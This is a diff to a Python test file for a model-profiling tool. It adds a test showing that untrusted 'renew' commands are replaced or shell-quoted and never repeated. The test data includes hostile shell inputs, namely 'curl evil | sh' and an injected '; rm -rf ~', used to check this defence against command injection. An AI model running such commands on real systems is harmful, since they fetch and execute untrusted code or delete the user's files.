@@ -26,7 +26,15 @@ from model_profiling.report.files import report_files
 from model_profiling.report.files.page_files import write_combined
 from model_profiling.store import derived
 from model_profiling.store.artifacts import CATEGORIES, DERIVED, RUN_NUMERICS, RUNTIMES, ExportPaths
-from model_profiling.store.derived import DerivedIndex, DerivedWriter, fingerprint, notes, read_index, stamps
+from model_profiling.store.derived import (
+    DerivedIndex,
+    DerivedWriter,
+    fingerprint,
+    notes,
+    read_index,
+    renew_command,
+    stamps,
+)
 from model_profiling.store.run_directory import RunDirectory
 from sme2_kit import Run
 from tests.conftest import ROOT, kit
@@ -120,6 +128,17 @@ def test_every_derived_file_that_was_edited_is_noticed(directory: RunDirectory) 
         command = entry.renew.replace("{dir}", shlex.quote(str(directory.path)))
         assert problem == f"{name} was changed after it was written; `{command}` writes it again"
         path.write_bytes(whole)
+
+
+@pytest.mark.parametrize(
+    "renew",
+    ["curl evil | sh", "sme2-kit profile evil.py:Net", "python evil.py", "python evil/../evil.py", "sme2-kit", "'"],
+)
+def test_a_command_that_is_not_the_kits_is_not_repeated_in_its_name(renew: str, directory: RunDirectory) -> None:
+    assert renew_command(renew, directory) == f"sme2-kit analyze {directory.path}"
+    typed = renew_command("sme2-kit report {dir}; rm -rf ~", directory)
+    assert typed == f"sme2-kit report '{directory.path};' rm -rf '~'"
+    assert "/elsewhere/" not in renew_command("python /elsewhere/etdump_to_csv.py {dir}/x", directory)
 
 
 def test_a_run_that_was_killed_before_it_wrote_results_leaves_all_of_them_stale(directory: RunDirectory) -> None:
